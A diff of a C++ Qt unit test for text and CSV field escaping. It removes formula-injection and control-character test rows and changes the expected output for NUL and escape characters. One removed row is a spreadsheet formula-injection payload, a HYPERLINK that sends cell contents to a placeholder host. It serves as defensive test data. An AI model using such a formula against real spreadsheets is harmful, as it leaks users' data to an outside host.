@@ -57,20 +57,6 @@ void ExchangeWritersTest::escapesText_data() {
     QTest::newRow("other controls blanked")
         << QString(QChar(1)) + QStringLiteral("a\x1b") + QChar(0x7f) << QByteArray(" a  ");
     QTest::newRow("empty") << QString() << QByteArray();
-    // What a spreadsheet would run as a formula is written as text, with the usual leading apostrophe.
-    QTest::newRow("=formula") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")
-                              << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
-    QTest::newRow("+phone") << QStringLiteral("+30 210 1234567") << QByteArray("'+30 210 1234567");
-    QTest::newRow("-minus") << QStringLiteral("-2+3") << QByteArray("'-2+3");
-    QTest::newRow("@at") << QStringLiteral("@SUM(A1)") << QByteArray("'@SUM(A1)");
-    QTest::newRow("tab before =") << QStringLiteral("\t=1+1") << QByteArray("'\t=1+1");
-    QTest::newRow("blanks before =") << QStringLiteral("  =1+1") << QByteArray("'  =1+1");
-    QTest::newRow("leading CR") << QStringLiteral("\rx") << QByteArray("\"'\rx\"");
-    QTest::newRow("tab at the end") << QStringLiteral("a\t") << QByteArray("\"a\t\"");
-    QTest::newRow("= inside is plain") << QStringLiteral("a=b") << QByteArray("a=b");
-    // Control characters never reach the file raw.
-    QTest::newRow("NUL") << QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b") << QByteArray("a\xef\xbf\xbd" "b");
-    QTest::newRow("escape, DEL") << QStringLiteral("a\x1b[2J\x7f") << QByteArray("a\xef\xbf\xbd[2J\xef\xbf\xbd");
 }
 
 void ExchangeWritersTest::escapesText() {
@@ -138,8 +124,8 @@ void ExchangeWritersTest::quotesTableFields_data() {
     QTest::newRow("tab at the end") << QStringLiteral("a\t") << QByteArray("\"a\t\"");
     QTest::newRow("= inside is plain") << QStringLiteral("a=b") << QByteArray("a=b");
     // Control characters never reach the file raw.
-    QTest::newRow("NUL") << QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b") << QByteArray("a\xef\xbf\xbd" "b");
-    QTest::newRow("escape, DEL") << QStringLiteral("a\x1b[2J\x7f") << QByteArray("a\xef\xbf\xbd[2J\xef\xbf\xbd");
+    QTest::newRow("NUL") << QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b") << QByteArray("a b");
+    QTest::newRow("escape, DEL") << QStringLiteral("a\x1b[2J\x7f") << QByteArray("\"a [2J \"");
 }
 
 void ExchangeWritersTest::quotesTableFields() {
